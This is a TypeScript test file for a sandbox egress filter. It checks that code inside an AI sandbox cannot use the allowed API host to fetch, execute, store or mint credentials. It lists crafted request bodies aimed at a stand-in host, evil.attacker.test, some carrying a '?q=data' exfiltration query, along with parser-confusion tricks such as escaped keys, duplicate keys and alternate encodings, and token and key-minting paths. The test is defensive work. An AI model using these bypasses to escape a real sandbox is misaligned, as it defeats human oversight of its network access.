// Features of the API host that fetch, run, store or mint on the attacker's behalf. Source: Anthropic 2026-05; Sealroom; EGRESS P39, P41, P45.
import { forEachTier } from '../support/attack.ts';
import { EgressBox } from '../support/egress-box.ts';

const BODIES: Readonly<Record<string, string>> = {
  'web-fetch': '{"tools":[{"type":"web_fetch_20250910","name":"web_fetch"}]}',
  'code-execution': '{"tools":[{"name":"a"},{"type":"code_execution_20250522"}]}',
  'mcp-servers': '{"mcp_servers":[{"type":"url","url":"https://evil.attacker.test/"}]}',
  'mcp-escaped': '{"\\u006dcp_servers":[]}',
  'mcp-tool': '{"tools":[{"type":"mcp","server_url":"https://evil.attacker.test/"}]}',
  'image-url':
    '{"messages":[{"content":[{"type":"image","source":{"type":"url","url":"https://evil.attacker.test/?q=data"}}]}]}',
  'file-id': '{"messages":[{"content":[{"type":"document","source":{"type":"file","file_id":"file_1"}}]}]}',
  'image-openai':
    '{"input":[{"content":[{"type":"input_image","image_url":"https://evil.attacker.test/?q=data"}]}]}',
  'case-scheme': '{"input":[{"image_url":"HtTpS://evil.attacker.test/"}]}',
  'blank-scheme': '{"input":[{"image_url":" \\t\\nht\\ntps://evil.attacker.test/"}]}',
  'case-type': '{"tools":[{"type":"Web_Fetch_20250910"}]}',
  'case-key': '{"MCP_Servers":[]}',
  background: '{"background":true}',
  'background-word': '{"background":"yes"}',
  'duplicate-keys': '{"tools":[],"tools":[{"type":"web_fetch_20250910"}]}',
  'duplicate-deep': '{"a":[{"b":1,"\\u0062":2}]}',
  'duplicate-escaped': '{"tools":[],"t\\u006fols":[{"type":"web_fetch"}]}',
  'two-documents': '{"model":"m"}{"mcp_servers":[]}',
  'not-json': '{"model":"m",}',
  bom: '\ufeff{"mcp_servers":[]}',
  comment: '{"a":1/*,*/,"mcp_servers":[]}',
};
const PATHS = [
  '/v1/oauth/token',
  '/oauth/token',
  '/v1/organizations/api_keys',
  '/v1/files',
  '/v1/messages/batches',
  '/v1/realtime/sessions',
  '/v1/skills',
];

forEachTier('the allowed host neither fetches, runs, stores nor mints for the sandbox', async (tier) => {
  await using box = new EgressBox(tier);
  const result = await box.probe(`
for name, body in json.loads(r'''${JSON.stringify(BODIES)}''').items(): ask(name, body=body, lines=(OWN, 'Content-Type: application/json'))
for at, path in enumerate(${JSON.stringify(PATHS)}): ask(f'path{at}', target=path, body='{"grant_type":"authorization_code"}')
for name in ('files-api-2025-04-14', 'MCP-Client-2025-04-04', 'x,code-execution-2025-05-22'): ask(name, body='{}', lines=(OWN, f'anthropic-beta: {name}'))
ask('text-type', body='{"mcp_servers":[]}', lines=(OWN, 'Content-Type: text/plain'))
ask('no-type', body='{"mcp_servers":[]}', lines=(OWN, 'Content-Type:'))
ask('utf16', body='{"mcp_servers":[]}'.encode('utf-16'), lines=(OWN, 'Content-Type: application/json; charset=utf-16'))
ask('gzip', body=gzip.compress(b'{"mcp_servers":[]}'), lines=(OWN, 'Content-Type: application/json', 'Content-Encoding: gzip'))
control()
`);
  const names = [
    ...Object.keys(BODIES),
    ...PATHS.map((_, at) => `path${at}`),
    'text-type',
    'no-type',
    'utf16',
    'gzip',
  ];
  const betas = ['files-api-2025-04-14', 'MCP-Client-2025-04-04', 'x,code-execution-2025-05-22'];
  box.expectHeld(result, Object.fromEntries([...names, ...betas].map((name) => [name, '40'])));
});
